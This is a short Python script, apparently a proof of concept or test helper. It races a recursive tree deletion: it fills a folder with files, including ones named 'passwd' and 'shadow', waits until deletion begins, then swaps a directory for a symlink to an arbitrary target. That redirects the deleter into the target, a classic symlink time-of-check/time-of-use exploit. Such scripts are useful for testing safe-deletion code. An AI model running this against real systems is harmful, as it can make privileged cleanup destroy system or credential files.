"""Swaps a folder for a link while a tree is deleted: swap.py FOLDER SWAPPED TARGET

Fills FOLDER with files, waits until the first of them is gone, and puts a link to TARGET in the
place of SWAPPED, which is FOLDER or one above it.
"""
import os
import sys
import time

folder, swapped, target = sys.argv[1:]
os.makedirs(folder, exist_ok=True)
for name in [f'a{i:05d}' for i in range(3000)] + ['passwd', 'shadow']:
    open(f'{folder}/{name}', 'w').close()
print('ready', flush=True)
end = time.time() + 60
while time.time() < end:
    if not os.path.exists(f'{folder}/a00000'):
        os.rename(swapped, f'{swapped}.moved')
        os.symlink(target, swapped)
        print('swapped', flush=True)
        break
    time.sleep(0.0003)
